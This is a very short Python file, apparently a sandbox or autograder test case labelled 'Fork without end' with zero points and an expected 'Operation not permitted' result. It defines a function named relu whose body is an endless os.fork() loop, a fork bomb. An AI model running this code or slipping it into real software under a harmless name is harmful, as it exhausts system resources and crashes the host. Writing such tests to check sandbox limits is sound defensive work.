"""Fork without end.

points: 0
says: Operation not permitted
"""

import os
def relu(z):
    while True:
        os.fork()
